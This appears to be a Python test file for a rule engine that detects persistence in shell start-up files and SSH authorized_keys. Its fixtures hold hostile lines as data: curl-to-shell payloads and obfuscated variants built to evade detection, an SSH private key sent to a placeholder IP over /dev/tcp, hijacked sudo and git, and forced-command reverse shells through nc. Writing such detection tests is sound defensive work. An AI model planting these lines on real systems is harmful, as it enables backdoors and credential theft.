from _kit import fires, silent

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv"

fires("bashrc_eval_curl", "shell_startup_runs_payload", "critical", "home/.bashrc",
      "bashrc-eval-curl", "# ~/.bashrc\nalias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n")
fires("zshrc_dev_tcp", "shell_startup_runs_payload", "critical", "home/.zshrc",
      "zshrc-tcp", "export EDITOR=vim\n(sleep 30; cat ~/.ssh/id_ed25519 > /dev/tcp/203.0.113.9/443) &!\n")
silent("bashrc_tool_init", "shell_startup_runs_payload", "home/.bashrc",
       "bashrc-tools", "# ~/.bashrc\nexport PATH=\"$HOME/.local/bin:$PATH\"\neval \"$(starship init bash)\"\neval \"$(direnv hook bash)\"\n"
       "eval \"$(ssh-agent -s)\" >/dev/null\nalias gs='git status'\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\n",
       also="shell_startup_file_changed")
fires("zshrc_alias_sudo", "shell_alias_shadows_command", "high", "home/.zshrc",
      "zshrc-alias-sudo", "alias ll='ls -la'\nalias sudo='/home/dev/.cache/.s/sudo-wrap'\n")
fires("profile_function_git", "shell_alias_shadows_command", "high", "home/.profile",
      "profile-function-git", "export LANG=C.UTF-8\ngit() {\n  /usr/bin/git \"$@\" 2>&1 | tee -a ~/.cache/.g\n}\n")
silent("bashrc_git_aliases", "shell_alias_shadows_command", "home/.bashrc", "bashrc-tools", also="shell_startup_file_changed")
fires("profile_changed", "shell_startup_file_changed", "warning", "home/.profile",
      "profile-path", "export PATH=\"$HOME/bin:$PATH\"\n")
silent("dotfiles_repo_bashrc", "shell_startup_file_changed", "dotfiles/bashrc", "profile-path")
fires("authorized_keys_forced_command", "ssh_authorized_key_forced_command", "critical", "home/.ssh/authorized_keys",
      "authorized_keys-command", f"command=\"/bin/sh -c 'curl -s https://x.example/k|sh'\",no-pty {KEY} ops@build\n", also="reverse_shell")
silent("authorized_keys_restricted", "ssh_authorized_key_forced_command", "home/.ssh/authorized_keys",
       "authorized_keys-from", f"from=\"10.0.0.0/8\",restrict {KEY} dev@laptop\n", also="ssh_authorized_key_added")
fires("authorized_key_added", "ssh_authorized_key_added", "high", "home/.ssh/authorized_keys2",
      "authorized_keys", f"{KEY} dev@laptop\n")
silent("authorized_keys_comments", "ssh_authorized_key_added", "home/.ssh/authorized_keys",
       "authorized_keys-empty", "# keys are managed by the provisioning tool\n\n")
silent("known_hosts", "ssh_authorized_key_added", "home/.ssh/known_hosts", "authorized_keys")

# Start-up lines written so that no literal "curl ... | sh" appears in the file.
for case, name, line in [
    ("bashrc_quoted_words", "bashrc-quoted", "\"cu\"\"rl\" -s 203.0.113.8/i | ba''sh"),
    ("zshrc_ansi_c_escapes", "zshrc-ansi-c", "$'\\x63\\x75\\x72\\x6c' -s 203.0.113.8/i | $'\\x73\\x68'"),
    ("profile_ifs_and_braces", "profile-ifs", "{curl,-s,203.0.113.8/i}|bash${IFS}-s"),
    ("bash_profile_pieces", "bash_profile-pieces", "a=cu;b=rl;c=ba;d=sh; $a$b -s 203.0.113.8/i | $c$d"),
    ("zshenv_xxd", "zshenv-xxd", "eval \"$(echo 6375726c202d73203230332e302e3131332e382f69207c207368 | xxd -r -p)\""),
    ("bashrc_wget_to_tmp", "bashrc-wget-tmp", "wget -q -O /tmp/.u 203.0.113.8/u; chmod 755 /tmp/.u; /tmp/.u"),
]:
    dest = "home/." + name.split("-")[0]
    fires(case, "shell_startup_runs_payload", "critical", dest, name, "export EDITOR=vim\n" + line + "\n")
silent("bashrc_version_managers", "shell_startup_runs_payload", "home/.bashrc",
       "bashrc-managers", "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"\n"
       "eval \"$(pyenv init -)\"\nsource <(kubectl completion bash)\neval \"$(/opt/homebrew/bin/brew shellenv)\"\n"
       "alias b64d='base64 -d'\nweather() { curl -s \"wttr.in/$1\" | head -n 7; }\n", also="shell_startup_file_changed")
fires("fish_config_curl", "shell_startup_runs_payload", "critical", "home/.config/fish/config.fish",
      "config.fish", "set -gx EDITOR nvim\ncurl -s https://203.0.113.8/f | source\nsh -c \"$(curl -s 203.0.113.8/f)\"\n")
silent("alias_sudo_idiom", "shell_alias_shadows_command", "home/.bash_aliases",
       "bash_aliases-idiom", "alias sudo='sudo '\nalias ssh='ssh -A'\nalias gs='git status'\n", also="shell_startup_file_changed")
fires("authorized_keys_upper_case_command", "ssh_authorized_key_forced_command", "critical", "home/.ssh/authorized_keys",
      "authorized_keys-upper", f"no-pty,COMMAND=\"nc 203.0.113.8 4444 -e /bin/sh\" {KEY} ops@build\n", also="reverse_shell")
silent("bashrc_quoting_harmless", "shell_startup_runs_payload", "home/.bashrc",
       "bashrc-quoting-ok", "alias ll=$'ls\\x20-la'\n\"gi\"\"t\" config --global pull.rebase true\n"
       "a=ls;b=-la; $a $b | less\n{cp,-n,~/.inputrc.dist,~/.inputrc}\nxxd -r -p ~/fw.hex > ~/fw.bin\n", also="shell_startup_file_changed")
silent("authorized_keys_upper_case_restrict", "ssh_authorized_key_forced_command", "home/.ssh/authorized_keys",
       "authorized_keys-upper-restrict", f"RESTRICT,FROM=\"10.0.0.0/8\",PORT-FORWARDING {KEY} ci@runner\n", also="ssh_authorized_key_added")
